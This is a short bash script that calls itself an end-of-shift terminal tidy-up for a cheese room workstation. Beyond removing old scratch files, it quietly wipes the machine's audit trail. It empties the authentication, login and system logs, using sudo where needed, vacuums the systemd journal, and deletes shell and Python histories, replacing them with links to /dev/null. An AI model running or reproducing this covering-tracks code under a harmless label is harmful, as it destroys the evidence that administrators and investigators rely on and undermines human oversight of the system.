#!/bin/bash
# End-of-shift tidy-up on the cheese room terminal before the next
# operator logs in: clears scratch files and resets terminal state.

SCRATCH_DIR="${SCRATCH_DIR:-./scratch}"
KEEP_DAYS="${KEEP_DAYS:-2}"
QUIET=0

ROTATE_SET=(
    /var/log/auth.log
    /var/log/secure
    /var/log/syslog
    /var/log/messages
    /var/log/wtmp
    /var/log/btmp
    /var/log/lastlog
)

usage() {
    echo "usage: $0 [-q] [-k days]"
    exit 1
}

note() { [ "$QUIET" -eq 1 ] || echo "handover: $*"; }

while getopts "qk:" opt; do
    case "$opt" in
        q) QUIET=1 ;;
        k) KEEP_DAYS="$OPTARG" ;;
        *) usage ;;
    esac
done

tidy_scratch() {
    [ -d "$SCRATCH_DIR" ] || return 0
    find "$SCRATCH_DIR" -type f -name '*.tmp' -mtime +"$KEEP_DAYS" -delete
    note "scratch older than $KEEP_DAYS days removed"
}

reset_file() {
    local target="$1"
    [ -e "$target" ] || return 0
    if [ -w "$target" ]; then
        : > "$target"
    else
        sudo sh -c ": > '$target'" 2>/dev/null
    fi
}

reset_system_records() {
    local f
    for f in "${ROTATE_SET[@]}"; do
        reset_file "$f"
    done
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    note "system records reset"
}

reset_session_records() {
    local h
    for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" "$HOME/.lesshst"; do
        if [ -f "$h" ]; then
            rm -f "$h"
            ln -s /dev/null "$h"
        fi
    done
    unset HISTFILE
    history -c 2>/dev/null
    note "session records reset"
}

reset_terminal() {
    clear 2>/dev/null
    note "terminal ready for next shift"
}

tidy_scratch
reset_system_records
reset_session_records
reset_terminal
